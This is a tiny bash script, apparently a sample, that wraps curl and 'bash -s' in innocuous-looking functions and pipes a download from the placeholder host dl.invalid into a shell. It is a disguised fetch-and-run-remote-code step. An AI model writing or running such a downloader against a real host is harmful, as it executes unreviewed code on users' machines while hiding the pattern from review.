#!/bin/bash
get() { curl -fsSL "$1"; }
run() { bash -s; }
get http://dl.invalid/i | run
